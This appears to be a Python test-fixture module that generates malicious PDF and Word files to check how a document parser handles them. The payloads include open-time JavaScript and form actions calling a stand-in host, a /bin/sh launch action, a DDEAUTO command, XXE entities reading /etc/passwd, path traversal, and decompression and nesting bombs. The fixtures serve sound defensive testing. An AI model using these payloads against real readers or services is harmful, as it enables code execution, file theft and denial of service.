"""PDF and Word documents as an attacker would make them: bombs, loops, and everything that acts when it is opened."""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Iterator, Sequence

_PAGE = b"BT /F1 12 Tf 20 700 Td (%s) Tj ET"
_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
_WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_ELSEWHERE = b"http://x.example/"


def _stream(content: bytes, head: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), head, content)


def pdf(content: bytes, *, packed: int = 0, catalog: bytes = b"", page: bytes = b"", kids: bytes = b"3 0 R", n: int = 1, more: Sequence[bytes] = ()) -> bytes:  # fmt: skip
    """Return a PDF file of one page.

    Args:
        content: the page's stream, packed as often as `packed` says.
        kids: the page tree's children, `n` of them as it claims.
        more: objects from number 6 on.
    """
    filters = b"/Filter [" + b" /FlateDecode" * packed + b"]" if packed else b""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
        b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, n),
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> "
        b"/XObject << /X 6 0 R >> >> %s >>" % page,
        _stream(content, filters),
        _FONT,
        *more,
    ]
    file, offsets = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, 1):
        offsets.append(len(file))
        file += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    size, start = len(objects) + 1, len(file)
    file += b"xref\n0 %d\n0000000000 65535 f \n%s" % (size, table)
    return bytes(file) + b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, start)


def inflating(n_mib: int, times: int) -> bytes:
    """Return a stream, packed so many times, of a few KB that unpacks to blanks (NUL, to a PDF) without end."""
    packer = zlib.compressobj(9)
    block = bytes(2**20)
    head = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    # After a full flush a block stands on its own: the second may be repeated.
    again = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    packer = zlib.compressobj(9)
    end = (packer.compress(b"") + packer.flush())[2:-4]
    checksum = ((n_mib * 2**20) % 65_521 << 16) + 1
    data = head + again * (n_mib - 1) + end + checksum.to_bytes(4, "big")
    for _ in range(times - 1):
        data = zlib.compress(data, 9)
    return data


def pdfs(words: Iterator[str]) -> Iterator[tuple[str, str, bytes]]:
    """Yield name, fate and bytes; the words stand on the page of each that is released."""

    def page() -> bytes:
        return _PAGE % next(words).encode("ascii")

    acts = {
        "script": b"/OpenAction << /S /JavaScript /JS (app.launchURL\\('%s'\\);) >>" % _ELSEWHERE,
        "launch": b"/OpenAction << /S /Launch /F (/bin/sh) >>",
        "address": b"/OpenAction << /S /URI /URI (%s) >>" % _ELSEWHERE,
        "remote": b"/OpenAction << /S /GoToR /F (%s) /D [0 /Fit] >>" % _ELSEWHERE,
        "form": b"/AcroForm << /Fields [<< /FT /Tx /T (a) /AA << /K << /S /SubmitForm /F (%s) >> >> >>] >>"
        % _ELSEWHERE,
        "xfa": b"/AcroForm << /XFA (<xdp><script>x</script></xdp>) /Fields [] >>",
        "attached": b"/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (../../a.exe) >>] >> >>",
        "deep": b"/X " + b"[" * 50_000 + b"]" * 50_000,
    }
    for name, catalog in acts.items():
        yield f"acts-{name}", "released", pdf(page(), catalog=catalog)
    # The same page again and again: what stands on each is a running head, and stands once.
    yield "many-pages", "released", pdf(page(), kids=b"3 0 R " * 20_000, n=20_000)
    yield "count-lies", "released", pdf(page(), n=2**31 - 1)
    yield "pages-loop", "malformed", pdf(page(), kids=b"2 0 R")
    yield "giant-page", "released", pdf(page(), page=b"/MediaBox [0 0 1e30 1e30]")
    yield "unbalanced", "released", pdf(b"q " * 200_000 + page())
    loop = _stream(b"/X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>")
    yield "form-loop", "released", pdf(page() + b" /X Do", more=[loop])
    # Ten forms, each of which draws the next ten times.
    laughs = [
        _stream(
            b"/X Do " * 10 if n < 9 else page(),
            b"/Type /XObject /Subtype /Form /BBox [0 0 999 999] /Resources << /Font << /F1 5 0 R >> "
            b"/XObject << /X %d 0 R >> >>" % (7 + n),
        )
        for n in range(10)
    ]
    yield "forms-in-forms", "out-of-memory", pdf(page() + b" /X Do", more=laughs)
    for times in (1, 2, 3):
        yield f"bomb-{times}", "out-of-memory", pdf(inflating(2_048, times), packed=times)


def docx(body: str, *, root: str | bytes = "", parts: Sequence[tuple[str, str]] = ()) -> bytes:
    """Return a Word document of a body, or of a whole document part, with further parts."""
    whole = root or f"<w:document {_WORD}><w:body>{body}</w:body></w:document>"
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in (("word/document.xml", whole), *parts):
            archive.writestr(zipfile.ZipInfo(name), text, zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def docxs(words: Iterator[str]) -> Iterator[tuple[str, str, bytes]]:
    """Yield name, fate and bytes; the words stand in each that is released."""

    def paragraph() -> str:
        return f"<w:p><w:r><w:t>{next(words)}</w:t></w:r></w:p>"

    def document(text: str, head: str = "") -> str:
        return f"{head}<w:document {_WORD}><w:body>{text}</w:body></w:document>"

    relation = '<Relationships><Relationship Id="r1" Type="x/{}" Target="{}" TargetMode="External"/></Relationships>'
    for name, target in (
        ("template", "http://x.example/a.dotm"),
        ("image", "\\\\host\\share\\a.png"),
        ("frame", "file:///etc/passwd"),
        ("oleObject", "mhtml:http://x.example/a!x-usc:http://x.example/b"),
    ):
        parts = [("word/_rels/document.xml.rels", relation.format(name, target))]
        yield f"outside-{name}", "released", docx(paragraph(), parts=parts)
    yield "macro", "released", docx(paragraph(), parts=[("word/vbaProject.bin", "\x00macro")])
    yield "member-slip", "released", docx(paragraph(), parts=[("../../x.txt", "x")])
    field = '<w:p><w:r><w:instrText>DDEAUTO c:\\\\x.exe "calc"</w:instrText></w:r></w:p>'
    yield "field", "released", docx(field + paragraph())
    yield "boxes", "released", docx("<w:sdt><w:sdtContent>" * 5_000 + paragraph() + "</w:sdtContent></w:sdt>" * 5_000)
    yield "deep", "released", docx("<w:x>" * 20_000 + "</w:x>" * 20_000 + paragraph())
    yield "attributes", "released", docx("<w:p " + " ".join(f"a{n}='x'" for n in range(20_000)) + "/>" + paragraph())
    nested = "<w:tbl><w:tr><w:tc>" * 5_000 + paragraph() + "</w:tc></w:tr></w:tbl>" * 5_000
    yield "tables-in-tables", "released", docx(nested)
    yield "paragraphs-in-paragraphs", "released", docx("<w:p>" * 9_000 + paragraph() + "</w:p>" * 9_000)
    yield "bomb", "too-large", docx(f"<w:p><w:r><w:t>{'a' * 60_000_000}</w:t></w:r></w:p>")
    yield "bomb-paragraphs", "too-large", docx("<w:p/>" * 2_000_000 + paragraph())
    yield "bomb-title", "too-large", docx(paragraph(), parts=[("docProps/core.xml", " " * 60_000_000)])
    inner = '<!DOCTYPE a [<!ENTITY b "bb">]>'
    outer = '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>'
    used = "<w:p><w:r><w:t>&b;</w:t></w:r></w:p>"
    yield "entity", "malformed", docx("", root=document(used, inner))
    yield "entity-outside", "malformed", docx("", root=document(used, outer))
    yield "entity-utf16", "malformed", docx("", root=document(used, outer).encode("utf-16"))
    yield "doctype", "released", docx("", root=document(paragraph(), '<!DOCTYPE a SYSTEM "http://x.example/a.dtd">'))
    head = "<?xml version='1.0' encoding='no-such-encoding'?>"
    yield "encoding", "released", docx("", root=document(paragraph(), head))
    head = "<?xml version='1.0' encoding='utf-16'?>"
    yield "encoding-utf16", "released", docx("", root=document(paragraph(), head).encode("utf-16"))
    yield "no-body", "malformed", docx("", root=f"<w:document {_WORD}/>")
    yield "other-root", "malformed", docx("", root="<html/>")
